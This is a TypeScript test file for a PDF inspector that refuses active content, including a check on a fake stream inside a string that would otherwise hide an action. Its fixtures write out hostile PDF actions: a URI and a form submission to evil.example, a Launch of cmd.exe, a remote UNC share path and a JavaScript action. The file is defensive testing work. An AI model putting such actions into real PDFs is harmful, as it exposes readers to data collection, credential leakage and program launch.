// PDFs with active content are refused (docs/adr/0011): code, links, form submission,
// automatic actions, also compressed in object streams or hidden behind a fake stream in a
// string. Each PDF is built here, small and with a correct cross-reference table.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inspectFile } from './inspect.ts';
import { MEDIA_TYPES } from './media-types.ts';
import { pdfFile } from './testing.ts';

const reason = (content: Uint8Array) => {
  const result = inspectFile(content, MEDIA_TYPES);
  return result.ok ? result.mediaType : result.reason;
};

const ACTIONS = {
  javaScript: '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>',
  uri: '<< /Type /Action /S /URI /URI (https://evil.example/collect) >>',
  submitForm: '<< /Type /Action /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>',
  launch: '<< /Type /Action /S /Launch /F (cmd.exe) >>',
  remote: '<< /Type /Action /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
};

test('link, form-submission and launch actions are refused, as the open action or a link', () => {
  for (const [name, action] of Object.entries(ACTIONS)) {
    assert.equal(
      reason(pdfFile({ catalog: '/OpenAction 5 0 R', objects: [action] })),
      'activeContent',
      `${name} as /OpenAction`,
    );
    const link = `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A ${action} >>`;
    assert.equal(
      reason(pdfFile({ objects: [link] })),
      'activeContent',
      `${name} behind a link annotation`,
    );
  }
});

test('additional actions (/AA) on a page or a field are refused, also #-escaped', () => {
  assert.equal(
    reason(pdfFile({ objects: [`<< /Type /Page /AA << /O 6 0 R >> >>`, ACTIONS.uri] })),
    'activeContent',
  );
  assert.equal(reason(pdfFile({ objects: ['<< /FT /Tx /#41A << >> >>'] })), 'activeContent');
});

test('inside a compressed object stream, actions are found after inflating it', () => {
  for (const [name, action] of Object.entries(ACTIONS)) {
    assert.equal(
      reason(pdfFile({ catalog: '/OpenAction 5 0 R', compressed: [action] })),
      'activeContent',
      `${name} compressed`,
    );
  }
  assert.equal(reason(pdfFile({ compressed: ['<< /AA << /O 6 0 R >> >>'] })), 'activeContent');
});

test('a fake "stream" inside a string does not hide the objects after it', () => {
  // A reader sees a string, then a JavaScript action; a check that took ">> stream" in the
  // string for a stream would skip the action up to the next real "endstream".
  const hidden = pdfFile({
    catalog: '/OpenAction 6 0 R',
    objects: [
      '(<< /Length 99 >>\nstream\n)',
      ACTIONS.javaScript,
      '<< /Length 3 >>\nstream\nabc\nendstream',
    ],
  });
  assert.equal(reason(hidden), 'activeContent');
});

test('harmless PDFs pass: a jump to a page on opening, names inside strings, page text', () => {
  assert.equal(reason(pdfFile({ catalog: '/OpenAction [3 0 R /Fit]' })), 'application/pdf');
  assert.equal(
    reason(pdfFile({ objects: ['<< /Title (Hinweise zu /JavaScript und /URI) >>'] })),
    'application/pdf',
  );
  assert.equal(reason(pdfFile({ text: 'Siehe /URI und /SubmitForm' })), 'application/pdf');
  // A string with balanced and escaped parentheses is one string.
  assert.equal(reason(pdfFile({ objects: ['<< /Subject (a (b) c \\) d) >>'] })), 'application/pdf');
});

test('an unterminated string cannot be checked and is refused', () => {
  assert.equal(reason(pdfFile({ objects: ['<< /Title (offen >>'] })), 'damaged');
});
